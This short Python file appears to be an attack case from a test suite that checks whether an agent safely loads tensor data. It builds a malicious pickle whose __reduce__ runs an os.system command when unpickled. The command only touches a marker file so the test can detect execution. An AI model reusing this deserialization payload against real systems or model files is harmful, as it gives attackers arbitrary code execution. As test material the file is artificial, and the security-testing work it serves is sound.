"""Attack: return a non-tensor object (a pickle that runs a command if the agent unpickles it)."""
import os
import pickle


class Exploit:
    def __init__(self, marker):
        self.marker = marker

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


def run(channel):
    payload = pickle.dumps(Exploit(channel.request()["marker"]))
    channel.result({"tensors": {"w": {"shape": [1], "dtype": "F32"}}}, payload)
